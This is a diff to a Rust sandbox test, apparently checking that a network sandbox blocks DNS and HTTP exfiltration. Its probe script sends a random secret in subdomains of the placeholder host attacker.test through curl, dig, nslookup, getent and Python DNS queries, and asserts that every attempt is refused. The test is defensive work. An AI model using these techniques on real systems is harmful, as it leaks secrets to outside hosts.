@@ -11,6 +11,7 @@
 
 mod netkit;
 
+use netkit::resolver::TestResolver;
 use netkit::*;
 
 /// Statuses are checked per case; this is the common "refused by policy".
@@ -668,60 +669,90 @@ fn n5_dns_exfiltration(b: Backend) {
     let u = udp.port;
     let secret = format!("s{}", random_hex(12));
     let mut sb = Sandbox::new(b, "n5");
-    sb.allow(&format!("web.test:{p}"))
+    // The door's own lookups (getaddrinfo on the host) go to a resolver of
+    // the test's: it must hear about the allowed, unpinned name and never
+    // about a secret one.
+    let dns = TestResolver::start(&sb.dir, &[("ok.test", "127.0.0.1".parse().unwrap())]);
+    sb.resolver(&dns)
+        .allow(&format!("web.test:{p}"))
+        .allow(&format!("ok.test:{p}"))
         .pin("web.test", "127.0.0.1");
+    for tool in ["/usr/bin/dig", "/usr/bin/nslookup"] {
+        assert!(
+            std::path::Path::new(tool).exists(),
+            "{tool} is missing: install dnsutils (scripts/setup does)"
+        );
+    }
     let mut script = format!(
         "t getent getent hosts {secret}.attacker.test\n\
          t getent_ahosts getent ahosts {secret}-a.attacker.test\n\
-         t curl curl -sS -m 10 --noproxy '*' http://{secret}-c.attacker.test/\n"
+         t curl curl -sS -m 10 --noproxy '*' http://{secret}-c.attacker.test/\n\
+         t proxy_ok curl -sS -m 10 -w ' %{{http_code}}' http://ok.test:{p}/n5/ok\n\
+         t proxy_abs curl -sS -m 10 -w ' %{{http_code}}' http://{secret}-p.attacker.test/\n\
+         t proxy_abs_port curl -sS -m 10 -w ' %{{http_code}}' http://{secret}-o.attacker.test:{p}/\n\
+         t proxy_connect curl -sS -m 10 https://{secret}-q.attacker.test/\n\
+         t dig dig +tries=1 +time=2 {secret}-d.attacker.test TXT\n\
+         t dig_tcp dig +tcp +tries=1 +time=2 {secret}-t.attacker.test A\n\
+         t nslookup nslookup -timeout=2 {secret}-n.attacker.test\n\
+         t dig_ok dig +tries=1 +time=2 +short web.test A\n\
+         t dig_ok_txt dig +tries=1 +time=2 web.test TXT\n\
+         t dig_resolver dig +tries=1 +time=2 @{} {secret}-r.attacker.test\n\
+         t dig_resolver_tcp dig +tcp +tries=1 +time=2 @{} {secret}-s.attacker.test\n",
+        dns.addr, dns.addr
     );
-    let have_dig = std::path::Path::new("/usr/bin/dig").exists();
-    if have_dig {
+    for (i, ip) in local_addrs().iter().enumerate() {
         script += &format!(
-            "t dig dig +tries=1 +time=2 {secret}-d.attacker.test TXT\n\
-             t dig_tcp dig +tcp +tries=1 +time=2 {secret}-t.attacker.test A\n\
-             t nslookup nslookup -timeout=2 {secret}-n.attacker.test\n\
-             t dig_ok dig +tries=1 +time=2 +short web.test A\n\
-             t dig_ok_txt dig +tries=1 +time=2 web.test TXT\n"
+            "t dig_direct{i} dig +tries=1 +time=2 @{ip} -p {u} {secret}-x{i}.attacker.test\n\
+             t dig_direct_tcp{i} dig +tcp +tries=1 +time=2 @{ip} -p {p} {secret}-y{i}.attacker.test\n"
         );
-        for (i, ip) in local_addrs().iter().enumerate() {
-            script += &format!(
-                "t dig_direct{i} dig +tries=1 +time=2 @{ip} -p {u} {secret}-x{i}.attacker.test\n\
-                 t dig_direct_tcp{i} dig +tcp +tries=1 +time=2 @{ip} -p {p} {secret}-y{i}.attacker.test\n"
-            );
-        }
     }
     let pr = sb.sh(&script).probes();
     pr.failed("getent", Some(2), "");
     pr.failed("getent_ahosts", Some(2), "");
     pr.failed("curl", Some(6), "Could not resolve host");
-    if have_dig {
-        pr.succeeded("dig", "status: REFUSED");
-        pr.succeeded("dig_tcp", "status: REFUSED");
-        pr.failed("nslookup", None, "REFUSED");
-        pr.succeeded("dig_ok", "127.100.0.");
-        pr.succeeded("dig_ok_txt", "status: NOERROR");
-        assert!(
-            pr.out("dig_ok_txt").contains("ANSWER: 0"),
-            "{}",
-            pr.out("dig_ok_txt")
+    // The door looked ok.test up with the test's resolver (nobody else knows
+    // it) and refused the loopback address it got.
+    pr.succeeded("proxy_ok", "resolves to 127.0.0.1");
+    assert!(
+        pr.out("proxy_ok").ends_with(" 403"),
+        "{}",
+        pr.out("proxy_ok")
+    );
+    for k in ["proxy_abs", "proxy_abs_port"] {
+        assert_eq!(pr.code(k), 0, "{k}: {}", pr.out(k));
+        assert!(pr.out(k).ends_with(" 403"), "{k}: {}", pr.out(k));
+    }
+    pr.failed("proxy_connect", Some(56), "403");
+    pr.succeeded("dig", "status: REFUSED");
+    pr.succeeded("dig_tcp", "status: REFUSED");
+    pr.failed("nslookup", None, "REFUSED");
+    pr.succeeded("dig_ok", "127.100.0.");
+    pr.succeeded("dig_ok_txt", "status: NOERROR");
+    assert!(
+        pr.out("dig_ok_txt").contains("ANSWER: 0"),
+        "{}",
+        pr.out("dig_ok_txt")
+    );
+    for k in ["dig_resolver", "dig_resolver_tcp"] {
+        assert_ne!(pr.code(k), 0, "{k}: {}", pr.out(k));
+        assert!(!pr.out(k).contains("ANSWER SECTION"), "{k}: {}", pr.out(k));
+    }
+    for (i, ip) in local_addrs().iter().enumerate() {
+        // No answer from anywhere but the stub: refused or unreachable.
+        assert_ne!(
+            pr.code(&format!("dig_direct{i}")),
+            0,
+            "{ip}: {}",
+            pr.out(&format!("dig_direct{i}"))
         );
-        for (i, ip) in local_addrs().iter().enumerate() {
-            // No answer from anywhere but the stub: refused or unreachable.
-            assert_ne!(
-                pr.code(&format!("dig_direct{i}")),
-                0,
-                "{ip}: {}",
-                pr.out(&format!("dig_direct{i}"))
-            );
-            assert!(!pr.out(&format!("dig_direct{i}")).contains("ANSWER SECTION"));
-            assert_ne!(pr.code(&format!("dig_direct_tcp{i}")), 0);
-        }
+        assert!(!pr.out(&format!("dig_direct{i}")).contains("ANSWER SECTION"));
+        assert_ne!(pr.code(&format!("dig_direct_tcp{i}")), 0);
     }
     let r = sb.python(
         &(format!(
-            "S = {}\nU = {u}\nADDRS = {}\n",
+            "S = {}\nU = {u}\nR = {}\nADDRS = {}\n",
             q(&secret),
+            q(&dns.addr.to_string()),
             serde_json::to_string(&local_addrs()).unwrap()
         ) + r#"
 attempt("gai", resolve4, S + "-g.attacker.test")
@@ -733,6 +764,7 @@ attempt("aaaa", dns_query, S + "-w.attacker.test", 28)
 attempt("multi", dns_query, "web.test", 1, False, ("127.0.0.1", 53), 3, (S + "-m.attacker.test",))
 # a label added in front of an allowed exact name
 attempt("sub", dns_query, S + ".web.test")
+attempt("resolver", dns_query, S + "-k.attacker.test", 1, False, (R, 53), 2)
 for a in ADDRS:
     if ":" not in a:
         attempt("direct " + a, dns_query, S + "-z.attacker.test", 1, False, (a, U), 2)
@@ -763,8 +795,25 @@ for a in ADDRS:
         );
     }
 
+    py_failed(
+        &r,
+        "resolver",
+        &["ECONNREFUSED", "ENETUNREACH", "TimeoutError", "timeout"],
+    );
+
     udp.assert_untouched("N5");
     up.assert_untouched("N5");
+    let asked = dns.asked();
+    assert!(
+        asked.iter().any(|n| n == "ok.test"),
+        "the door never used the test's resolver: {asked:?}"
+    );
+    for n in &asked {
+        assert!(
+            !n.contains(&secret) && !n.contains("attacker") && !n.starts_with('<'),
+            "the host-side resolver was asked {n:?} (all: {asked:?})"
+        );
+    }
     let audit = sb.audit();
     audit.assert_well_formed();
     audit.assert_denied("dns", &format!("{secret}.attacker.test"), "never forwards");
@@ -778,10 +827,22 @@ for a in ADDRS:
         &format!("{secret}-v.attacker.test"),
         "never forwards",
     );
-    // Only the stub ever saw the secret: no connection record names it.
+    // The names sent through the proxy were refused by name, never resolved.
+    for (kind, name) in [("http", "p"), ("http", "o"), ("connect", "q")] {
+        audit.assert_denied(
+            kind,
+            &format!("{secret}-{name}.attacker.test"),
+            "is not on the allowlist",
+        );
+    }
+    // Every record naming the secret is a refusal with no address: the stub's
+    // or the proxy's, never a connection.
     for r in &audit.records {
         if r["host"].as_str().is_some_and(|h| h.contains(&secret)) {
-            assert_eq!(r["kind"], "dns", "{r}");
+            assert!(
+                ["dns", "http", "connect"].contains(&r["kind"].as_str().unwrap_or("")),
+                "{r}"
+            );
             assert_eq!(r["verdict"], "denied", "{r}");
             assert!(r["address"].is_null(), "{r}");
         }
